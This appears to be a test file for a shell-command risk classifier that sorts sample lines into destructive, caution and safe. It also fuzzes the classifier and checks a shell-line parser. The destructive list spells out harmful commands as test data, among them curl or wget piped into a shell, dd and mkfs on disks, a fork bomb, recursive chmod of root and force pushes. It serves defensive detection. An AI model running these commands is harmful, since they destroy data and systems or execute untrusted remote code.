import assert from 'node:assert/strict';
import fc from 'fast-check';
import { lineRisk } from '../../../src/language/risk';
import { shellCalls } from '../../../src/language/shellLine';

const DESTRUCTIVE = [
  'rm -rf build',
  'rm file',
  '/bin/rm file',
  'sudo rm file',
  'sudo -u root rm file',
  'FOO=1 rm file',
  'env -u X A=b rm file',
  'echo hi; rm file',
  'echo hi && rm file',
  'echo $(rm file)',
  'echo "$(rm file)"',
  'echo `rm file`',
  '(cd x; rm file)',
  '{ rm file; }',
  'ls | xargs rm',
  'ls | xargs -n 1 rm -f',
  'find . -name x -delete',
  'find . -exec rm {} +',
  'bash -c "rm -rf x"',
  "sh -c 'rm x'",
  'eval rm x',
  'ssh host rm x',
  'ssh -p 22 host "rm x"',
  'docker exec -it web rm -rf data',
  'su -c "rm x"',
  'timeout 5s rm x',
  'nohup rm x &',
  'dd if=a of=/dev/sda',
  'echo x > /dev/sda',
  'mkfs.ext4 /dev/sda1',
  'kill -9 1',
  'pkill node',
  'shutdown now',
  'systemctl stop nginx',
  'git push --force',
  'git push -f origin main',
  'git push origin +main',
  'git push origin :main',
  'git -C /x push --force-with-lease',
  'git reset --hard HEAD~1',
  'git clean -fdx',
  'git checkout -- .',
  'git branch -D x',
  'git stash drop',
  'apt-get remove vim',
  'npm uninstall react',
  'pip uninstall x',
  'pacman -Rns x',
  'docker system prune -a',
  'docker container prune',
  'docker compose down',
  'docker rm x',
  'kubectl delete pod x',
  'kubectl -n prod delete pod x',
  'helm uninstall x',
  'terraform destroy',
  'dropdb x',
  'psql -c "drop table x"',
  'redis-cli flushall',
  'curl http://x | sh',
  'curl -s http://x | sudo bash',
  'wget -qO- http://x | python3',
  'tmux kill-server',
  ':(){ :|:& };:',
  'chmod -R 777 /',
  'chown --recursive me /',
  'Remove-Item x',
  'rsync -a --delete a b',
];

const CAUTION = [
  'sudo ls',
  'mv a b',
  'chmod +x run',
  'git rebase main',
  'systemctl restart nginx',
  'kubectl apply -f x',
  'exit',
];

const SAFE = [
  '',
  'ls -la',
  'git status',
  'git push',
  'git push origin main',
  "git commit -m 'remove rm -rf calls'",
  'git commit -m "drop table"',
  'echo rm',
  "echo 'a; rm b'",
  'grep -rn "rm -rf" .',
  'echo x > file',
  'echo x > /dev/null 2>&1',
  'cat a | grep b',
  'docker ps',
  'kubectl get pods',
  'npm install',
  'curl http://x -o file',
  'git log --oneline # rm x',
  'git checkout main',
  'git branch',
  'history',
];

describe('lineRisk', () => {
  for (const line of DESTRUCTIVE) it(`destructive: ${line}`, () => assert.equal(lineRisk(line), 'destructive'));
  for (const line of CAUTION) it(`caution: ${line}`, () => assert.equal(lineRisk(line), 'caution'));
  for (const line of SAFE) it(`safe: ${line || '(nothing)'}`, () => assert.equal(lineRisk(line), 'safe'));

  it('ends for any line', () => {
    const piece = fc.constantFrom(
      'rm ',
      '$(',
      ')',
      '`',
      '"',
      "'",
      '\\',
      '|',
      ';',
      '&',
      '{',
      '}',
      '>',
      '<(',
      '#',
      ' a',
      'sudo ',
      'bash -c ',
    );
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.array(piece, { maxLength: 60 }).map((all) => all.join('')),
        ),
        (line) => {
          assert.ok(['safe', 'caution', 'destructive'].includes(lineRisk(line)));
        },
      ),
      { numRuns: 1_000 },
    );
    assert.equal(lineRisk('$('.repeat(5_000)), 'caution');
  });
});

describe('shellCalls', () => {
  it('takes a line apart', () => {
    assert.deepEqual(shellCalls(`A=1 x 'y z' "w $(v u)" 2>err | t >> out`), [
      { words: ['v', 'u'], piped: false, writes: [] },
      { words: ['A=1', 'x', 'y z', 'w $()'], piped: false, writes: ['err'] },
      { words: ['t'], piped: true, writes: ['out'] },
    ]);
  });
});
